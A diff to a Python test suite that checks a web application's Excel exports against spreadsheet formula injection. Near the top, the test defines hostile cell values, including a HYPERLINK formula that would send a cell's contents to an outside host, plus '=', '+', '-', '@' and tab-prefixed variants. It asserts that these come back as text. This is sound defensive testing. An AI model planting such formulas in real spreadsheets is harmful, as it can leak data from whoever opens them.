@@ -1,7 +1,8 @@
 """No export carries a live formula: hostile text typed at the real doors comes back from every workbook as text.
 
-An enterprise names itself ``=HYPERLINK(…)`` and finance records a payment reference ``=1+1``; every Excel
-download that can hold them is read back with openpyxl, and no cell of any sheet is a formula.
+An enterprise names itself ``=HYPERLINK(…)`` and finance records a payment reference ``+1+1`` (one
+starting with ``=`` is refused at the door; one starting with ``+`` is kept, and Excel would read it as a formula);
+every Excel download that can hold them is read back with openpyxl, and no cell of any sheet is a formula.
 """
 
 import io
@@ -20,6 +21,7 @@ pytestmark = pytest.mark.anyio
 
 LINK = '=HYPERLINK("http://x/?a="&C3,"点击")'
 SUM = "=1+1"
+PLUS = "+1+1"
 HOSTILE = (LINK, SUM, "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1")
 KEPT = set(HOSTILE) - {"\r=1+1"}  # XML reads a lone CR back as a line feed
 
@@ -62,7 +64,7 @@ async def test_no_export_holds_a_formula(client, browser, session, people, tmp_p
     step(session, "approve", people.finance, app.id, on=date(2025, 10, 13))
     set_today(date(2025, 10, 20))
     paid = await client.post("/api/v1/disbursements", headers=bearer(session, people.finance),
-                             json={"application_id": app.id, "paid_on": "2025-10-20", "reference": SUM})
+                             json={"application_id": app.id, "paid_on": "2025-10-20", "reference": PLUS})
     assert paid.status_code == 201, paid.text
     user = await client.post("/api/v1/users", headers=bearer(session, people.admin), json={
         "username": "mallet", "display_name": "@SUM(A1)", "role": "finance", "password": "long enough password"})
@@ -86,4 +88,4 @@ async def test_no_export_holds_a_formula(client, browser, session, people, tmp_p
         assert response.status_code == 200, f"{url}: {response.status_code}"
         assert formulas(response.content) == [], f"{url} holds a formula"
         seen |= texts(response.content)
-    assert {LINK, SUM, "@SUM(A1)"} <= seen, "the hostile text is kept, as text"
+    assert {LINK, PLUS, "@SUM(A1)"} <= seen, "the hostile text is kept, as text"
